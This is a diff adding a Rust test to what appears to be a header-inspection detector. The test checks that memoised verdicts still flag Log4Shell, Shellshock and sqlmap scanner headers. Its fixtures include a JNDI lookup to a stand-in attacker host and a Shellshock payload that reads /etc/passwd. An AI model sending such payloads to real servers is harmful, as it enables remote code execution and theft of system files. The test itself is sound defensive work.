@@ -597,6 +597,30 @@ fn java_in_json_xml_headers_and_jsp_uploads() {
 }
 
 #[test]
+fn every_header_verdict_repeats_with_the_memo() {
+    // Every detector's verdict on a header value is remembered per thread, clean ones only:
+    // Log4Shell and shellshock in any header and scanner agents are found on every request.
+    for _ in 0..3 {
+        let findings = with_headers(&[
+            (
+                "Accept-Language",
+                b"${jndi:ldap://evil.example/memo}" as &[u8],
+            ),
+            ("X-Memo", b"() { :; }; /bin/cat /etc/passwd"),
+            ("User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ]);
+        let rules: Vec<_> = findings.iter().map(|f| f.rule).collect();
+        for rule in [RuleId::Log4shell, RuleId::Shellshock, RuleId::Scanner] {
+            assert!(rules.contains(&rule), "{rule:?} missing from {findings:?}");
+        }
+    }
+    let clean: &[u8] = b"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8";
+    for _ in 0..3 {
+        assert_eq!(with_headers(&[("Accept", clean)]), vec![]);
+    }
+}
+
+#[test]
 fn memo_keeps_rce_and_java_verdicts_per_value() {
     let ua: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64) memo-rce-java";
     assert_eq!(with_headers(&[("User-Agent", ua)]), vec![]);
